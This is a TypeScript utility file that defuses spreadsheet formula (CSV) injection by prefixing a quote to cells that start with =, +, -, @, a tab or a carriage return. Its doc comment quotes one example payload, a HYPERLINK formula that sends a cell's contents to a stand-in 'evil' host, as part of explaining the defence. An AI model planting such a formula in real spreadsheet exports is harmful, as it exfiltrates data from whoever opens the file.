/**
 * Spreadsheet formula injection (CSV injection): a cell whose text starts with `=`, `+`, `-`, `@`,
 * a tab or a carriage return is run as a formula by Excel and LibreOffice when a CSV is opened,
 * and again when an XLSX's text cell is edited or the sheet is saved back as CSV. Results echo the
 * customer's own input cells (an upload may come from anyone: a web form, a supplier's list), so
 * `=HYPERLINK("http://evil/?"&A1)` would come back live. OWASP's advice: prefix such a cell with a
 * single quote, which spreadsheets show as text. Codes and PECs never start with these characters,
 * so the values the service adds are untouched.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function defuseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Numbers stay numbers (a negative number is a value, not a formula); text is defused. */
export function defuseCell<T>(value: T): T {
  return (typeof value === 'string' ? defuseFormula(value) : value) as T;
}
